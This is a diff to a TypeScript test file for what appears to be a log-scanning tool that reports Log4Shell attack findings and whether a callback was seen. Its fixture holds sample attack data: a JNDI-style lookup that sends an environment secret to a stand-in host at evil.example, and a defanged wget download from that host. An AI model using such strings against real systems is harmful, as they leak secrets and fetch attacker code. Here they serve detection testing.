@@ -31,6 +31,7 @@ const attack: AttackFinding = {
   traits: ['laundering'],
   leaks: [{ read: 'env:SECRET', into: 'ldap://${env:SECRET}.evil.example/a', secret: true }],
   carries: ['wget hxxp://evil[.]example/a'],
+  outcome: 'attempt',
   scanner: null,
   cves: [{ id: 'CVE-2021-44228', status: 'under_investigation', because: 'the log does not say' }],
   evidence: [
@@ -122,4 +123,31 @@ test('nothing found and something unread is told as that', () => {
   expect(lines).toContain(
     'No attack was found in what was read. 1 place could not be examined: nothing is known of it.',
   )
+})
+
+test('what came of an attack stands at its head, with the records that say so, and in the sums', () => {
+  const called: AttackFinding = {
+    ...attack,
+    outcome: 'callback-seen',
+    evidence: [
+      ...attack.evidence,
+      {
+        kind: 'witness',
+        source: 'named.log',
+        line: 7,
+        byteOffset: 70,
+        format: 'bind-queries',
+        when: instant('2021-12-12T04:25:42Z'),
+        says: '10.0.0.5 asked for root.evil.example, 1 s after it',
+        text: 'the record',
+      },
+    ],
+  }
+
+  const lines = linesOf([called, attack])
+
+  expect(lines).toContain('ATTACK, CALLBACK SEEN /var/log/access.log:12, critical')
+  expect(lines).toContain('    seen       10.0.0.5 asked for root.evil.example, 1 s after it (named.log:7)')
+  expect(lines).toContain('  a callback was seen of 1')
+  expect(lines.join('\n')).toMatch(/Rotate now[^\n]*\n +1 × env:SECRET[^]*Rotate, wherever[^\n]*\n +1 × env:SECRET/)
 })
